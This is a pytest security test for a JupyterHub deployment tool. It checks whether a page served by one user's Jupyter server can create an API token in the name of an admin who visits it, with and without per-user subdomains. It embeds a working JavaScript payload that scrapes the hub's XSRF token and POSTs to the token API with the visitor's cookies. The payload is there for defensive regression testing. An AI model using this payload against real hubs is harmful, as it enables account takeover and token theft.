"""Issue 26, item 1: a page served by one user's server cannot act as whoever opens it.

alice controls her server completely: a plain Tornado handler in ``~/.jupyter/jupyter_server_config.py``
serves ``/user/alice/cats``, whose JavaScript reads the hub's home page for its XSRF token and asks the
hub for an API token in the visitor's name (JupyterHub's own security docs describe this attack). The
admin opens the link in Chromium. With each user's servers on their own host name (the default) the
hub's cookies never reach alice's origin and the hub's pages cannot be read from it: no token is made.
With ``hub.user_subdomains: false`` the same page gets the admin's token, which is what
``hpclab-hub check`` warns about on a multi-user hub.
"""

from __future__ import annotations

import pytest

from support.browsertools import browser_login
from support.hubtools import hub_yaml, login, started_hub, stop_server, write_in_home


pytestmark = [pytest.mark.hub, pytest.mark.browser]

#: alice's server config: the cat page and its script, as any user can write into her own home
CAT_PAGE_CONFIG = r'''
from jupyter_server.serverapp import ServerApp
from jupyter_server.utils import url_path_join
from tornado import web

PAGE = """<!doctype html><title>cats</title><p>Cute cats!</p><script>
async function steal(hub) {
  const home = await fetch(hub + "/hub/home", {credentials: "include"});
  const xsrf = ((await home.text()).match(/xsrf_token: "([^"]+)"/) || [])[1] || "";
  const me = await (await fetch(hub + "/hub/api/user", {credentials: "include", headers: {"X-XSRFToken": xsrf}})).json();
  const made = await fetch(hub + "/hub/api/users/" + me.name + "/tokens", {
    method: "POST", credentials: "include", headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"},
    body: JSON.stringify({note: "cats"})});
  return (await made.json()).token;
}
(async () => {
  const tries = [location.origin, new URLSearchParams(location.search).get("hub")];
  let result = "refused";
  for (const hub of tries) {
    try { const token = await steal(hub); if (token) { result = "stolen:" + token; break; } }
    catch (error) { result = "refused: " + error; }
  }
  window.catResult = result;
})();
</script>"""


class Cats(web.RequestHandler):
    def get(self):
        self.set_header("Content-Type", "text/html")
        self.finish(PAGE)


_init_webapp = ServerApp.init_webapp


def init_webapp(self):
    _init_webapp(self)
    self.web_app.add_handlers(".*$", [(url_path_join(self.base_url, "cats"), Cats)])


ServerApp.init_webapp = init_webapp
'''


def _admin_tokens(hub) -> list[str]:
    return [t["note"] for t in login(hub, "admin").api("GET", "/users/admin/tokens").json()["api_tokens"]]


def _open_cat_page(hub, browser) -> str:
    """alice starts her server with the cat page; the admin, logged in, opens her link; returns what the page got."""
    write_in_home(hub.config["hub"]["data_dir"], "alice", ".jupyter/jupyter_server_config.py", CAT_PAGE_CONFIG)
    alice = login(hub, "alice")
    assert alice.post_spawn("alice", "cpu-small").status_code == 302
    alice.wait_ready("alice")
    context = browser.new_context()
    page = context.new_page()
    try:
        browser_login(page, hub, "admin")
        page.wait_for_url("**/hub/**")
        page.goto(hub.user_url("alice") + f"cats?hub={hub.url}")
        if "/hub/login" in page.url or "oauth2" in page.url:  # alice's server asks the admin to log in to it first
            page.wait_for_url("**/cats**", timeout=30_000)
        page.wait_for_function("window.catResult !== undefined", timeout=30_000)
        return page.evaluate("window.catResult")
    finally:
        context.close()
        stop_server(alice, "alice")


def test_a_page_on_alices_server_cannot_get_the_admins_token(tmp_path, browser):
    with started_hub(tmp_path / "hub", hub_yaml(tmp_path / "data"), accounts=("alice",)) as hub:
        result = _open_cat_page(hub, browser)
        assert not result.startswith("stolen"), "alice's page made an API token in the admin's name"
        assert "cats" not in _admin_tokens(hub)


def test_without_subdomains_the_same_page_gets_the_token_which_check_warns_about(tmp_path, browser):
    """The threat the default removes, shown on the hub that turns it off: the test of the test above."""
    config = hub_yaml(tmp_path / "data")
    config["hub"]["user_subdomains"] = False
    with started_hub(tmp_path / "hub", config, accounts=("alice",)) as hub:
        assert _open_cat_page(hub, browser).startswith("stolen:")
        assert "cats" in _admin_tokens(hub)
        from hpclab_hub.config import load_deployment
        from hpclab_hub.host_notes import deployment_notes

        notes = " ".join(deployment_notes(load_deployment(hub.config_path)))
        assert "hub.user_subdomains is off" in notes and "tokens in the visitor's name" in notes
